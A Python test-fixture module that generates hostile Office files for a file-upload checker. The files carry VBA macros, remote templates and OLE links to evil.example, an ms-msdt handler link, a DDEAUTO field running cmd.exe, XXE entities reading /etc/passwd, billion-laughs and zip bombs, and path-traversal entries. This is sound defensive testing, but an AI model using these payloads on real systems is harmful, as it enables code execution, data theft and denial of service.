"""Word and Excel files with more in them than text and tables."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import cache, partial

from awards.base import file_kinds, office_check
from awards.base.file_kinds import MEBIBYTE
from tests.file_makers import RELATION, BadFile, office

MACRO_TYPE = "application/vnd.ms-office.vbaProject"


def bad_office() -> Iterator[BadFile]:
    for kind, ending in (("word", "docx"), ("xl", "xlsx")):
        for what, make, sentence in (*_active_office(kind), *_entries(kind), *_bombs(kind)):
            yield BadFile(f"a.{ending}", f"{kind} {what}", make, sentence)
        good = office(kind)
        for part in (30, len(good) // 2, len(good) - 10):
            yield BadFile(f"a.{ending}", f"{kind} cut at {part}", partial(bytes, good[:part]), "")
        for what, tail in (("HTML", b"<html><script>alert(1)</script>"), ("PDF", b"%PDF-1.4"), ("itself", good)):
            yield BadFile(f"a.{ending}", f"{kind} with {what} behind", partial(bytes, good + tail), "")


Case = tuple[str, Callable[[], bytes], str]


def _active_office(kind: str) -> Iterator[Case]:
    make = partial(office, kind)
    macro_type = f"<Override PartName='/{kind}/vbaProject.bin' ContentType='{MACRO_TYPE}'/>"
    enabled = "<Default Extension='x' ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"
    yield "macro", partial(make, {f"{kind}/vbaProject.bin": b"x"}, types=macro_type), file_kinds.MACROS
    yield "hidden macro", partial(make, {f"{kind}/media/VBAPROJECT.BIN": b"x"}), file_kinds.MACROS
    yield "macro type", partial(make, types=enabled), file_kinds.MACROS
    yield "old macro sheet", partial(make, {"xl/macrosheets/sheet1.xml": "<a/>"}), file_kinds.MACROS
    yield "ActiveX", partial(make, {f"{kind}/activeX/activeX1.xml": "<a/>"}), office_check.EMBEDDED
    yield "OLE object", partial(make, {f"{kind}/embeddings/oleObject1.bin": b"MZ"}), office_check.EMBEDDED
    nested = office("xl", {"xl/vbaProject.bin": b"x"})
    yield "macro inside", partial(make, {f"{kind}/embeddings/a.xlsx": nested}), file_kinds.MACROS
    yield "external book", partial(make, {"xl/externalLinks/externalLink1.xml": "<a/>"}), office_check.EXTERNAL
    for what, type_name, target in (
        ("template from afar", "attachedTemplate", "https://evil.example/t.dotm"),
        ("picture from afar", "image", "https://evil.example/pixel.png"),
        ("frame from afar", "frame", "https://evil.example/"),
        ("object from afar", "oleObject", "https://evil.example/o"),
        ("part from afar", "subDocument", "file:///c:/a.docx"),
        ("link to a file", "hyperlink", "file:///c:/windows/system32/calc.exe"),
        ("link to a share", "hyperlink", r"\\10.0.0.1\share\a.exe"),
        ("link that runs", "hyperlink", "javascript:alert(1)"),
        ("link to a handler", "hyperlink", "ms-msdt:/id PCWDiagnostic"),
    ):
        link = f"<Relationship Id='x' Type='{RELATION}/{type_name}' Target='{target}' TargetMode='External'/>"
        yield what, partial(make, rels=link), office_check.EXTERNAL
    if kind == "word":
        field = '<w:document xmlns:w="w"><w:instrText> DDEAUTO c:\\cmd.exe "/k calc" </w:instrText></w:document>'
        yield "field that runs", partial(make, {"word/document.xml": field}), office_check.EXTERNAL


def _entries(kind: str) -> Iterator[Case]:
    for name in ("../evil.xml", "word/../../evil", "/etc/passwd", "..\\evil.xml", "C:/evil.xml", "a/../../b", "x:y"):
        yield f"entry {name}", partial(office, kind, {name: b"x"}), office_check.BAD_ENTRIES
    yield "symlink", partial(_symlink, kind), office_check.BAD_ENTRIES
    yield "same entry twice", partial(_twice, kind, "docProps/a.xml", "docProps/a.xml"), office_check.BAD_ENTRIES
    yield "same entry in capitals", partial(_twice, kind, "docProps/a.xml", "DOCPROPS/A.XML"), office_check.BAD_ENTRIES
    yield "locked entry", partial(_locked_entry, kind), file_kinds.LOCKED
    yield "no main part", partial(office, kind, {"[Content_Types].xml": "<Types/>"}), office_check.BAD_ENTRIES
    yield "wrong checksum", partial(_wrong_checksum, kind), file_kinds.BROKEN_OFFICE


def _symlink(kind: str) -> bytes:
    out = io.BytesIO(office(kind))
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def _twice(kind: str, first: str, second: str) -> bytes:
    content = office(kind, {first: b"1", "docProps/Z.xml": b"2"})
    return content.replace(b"docProps/Z.xml", second.encode())


def _locked_entry(kind: str) -> bytes:
    content = bytearray(office(kind))
    at = content.index(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def _wrong_checksum(kind: str) -> bytes:
    content = bytearray(office(kind))
    at = content.index(b"PK\x01\x02")
    content[at + 16] ^= 0xFF
    local = content.index(b"PK\x03\x04")
    content[local + 14] ^= 0xFF
    return bytes(content)


_LAUGHS = "<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
)
LAUGHS = f"{_LAUGHS}]><l>&j;</l>"


def _bombs(kind: str) -> Iterator[Case]:
    main = "word/document.xml" if kind == "word" else "xl/workbook.xml"
    declared = office_check.DECLARED_ENTITIES
    for name in (main, "_rels/.rels", "docProps/app.xml", "customXml/item1.xml", f"{kind}/theme/theme1.xml"):
        yield f"laughs in {name}", partial(office, kind, {name: LAUGHS}), declared
    outside = "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"
    yield "file entity", partial(office, kind, {main: outside}), declared
    yield "far definition", partial(office, kind, {main: "<!DOCTYPE a SYSTEM 'http://evil.example/a'><a/>"}), declared
    yield "laughs in UTF-16", partial(office, kind, {"docProps/a.xml": LAUGHS.encode("utf-16")}), declared
    yield (
        "parameter entity",
        partial(office, kind, {main: "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example/'>%p;]><a/>"}),
        declared,
    )
    yield "200 MB declared", partial(_zeros, kind, 200), office_check.TOO_MUCH
    yield "ratio", partial(_zeros, kind, 20), office_check.TOO_MUCH
    yield "100,000 entries", partial(_many, kind), office_check.TOO_MUCH
    yield "lying size", partial(_lying, kind), file_kinds.BROKEN_OFFICE
    yield "long directory", partial(_long_names, kind), office_check.TOO_MUCH
    yield "broken XML", partial(office, kind, {"_rels/.rels": "<a><b></a>"}), file_kinds.BROKEN_OFFICE


@cache
def _zeros(kind: str, megabytes: int) -> bytes:
    return office(kind, {f"{kind}/media/zeros.bin": bytes(megabytes * MEBIBYTE)}, level=1 if megabytes > 20 else 6)


@cache
def _many(kind: str) -> bytes:
    """100,000 empty entries, written by hand: the library takes its time."""
    out, directory = io.BytesIO(office(kind)), io.BytesIO()
    content = out.getvalue()
    start = struct.unpack_from("<I", content, len(content) - 6)[0]
    out.seek(start)
    for number in range(65_000):
        name = b"%06d" % number
        at = out.tell()
        fields = struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 33, 0, 0, 0, len(name), 0)
        out.write(b"PK\x03\x04" + fields + name)
        more = struct.pack("<HHHII", 0, 0, 0, 0, at)
        directory.write(b"PK\x01\x02" + struct.pack("<H", 20) + fields + more + name)
    at, entries = out.tell(), content[start : len(content) - 22] + directory.getvalue()
    out.write(entries)
    out.write(struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 65_000, 65_000, len(entries), at, 0))
    return out.getvalue()


def _lying(kind: str) -> bytes:
    """The directory says ten bytes, the entry unpacks to five million."""
    name = f"{kind}/media/a.bin"
    content = bytearray(office(kind, {name: bytes(5 * MEBIBYTE)}))
    at = content.rindex(name.encode()) - 46
    content[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(content)


@cache
def _long_names(kind: str) -> bytes:
    return office(kind, {f"{kind}/{number}{'x' * 60_000}.bin": b"" for number in range(40)})
